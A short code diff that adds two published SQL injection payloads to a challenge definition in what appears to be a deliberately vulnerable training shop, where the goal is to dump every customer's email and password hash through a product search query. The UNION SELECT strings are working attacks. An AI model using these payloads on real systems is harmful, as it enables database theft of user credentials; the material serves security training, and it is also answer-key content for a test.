@@ -12,6 +12,10 @@ export default defineChallenge({
   cwe: [89],
   owasp: 'A03:2021',
   source: [{ file: 'shop/catalogue/products.ts', symbol: 'searchProducts', lines: ['SELECT * FROM Products WHERE'] }],
+  publishedPayloads: [
+    "')) UNION SELECT id, email, password, '4', '5', '6', '7', '8', '9' FROM Users--",
+    "')) UNION SELECT '1', id, email, password, '5', '6', '7', '8', '9' FROM Users--",
+  ],
   description: 'Leave with the whole guest list: the address and password hash of every customer, all in one answer.',
   hints: [
     'You need two things: an address that lets you continue its query, and the name of the table that customers live in.',
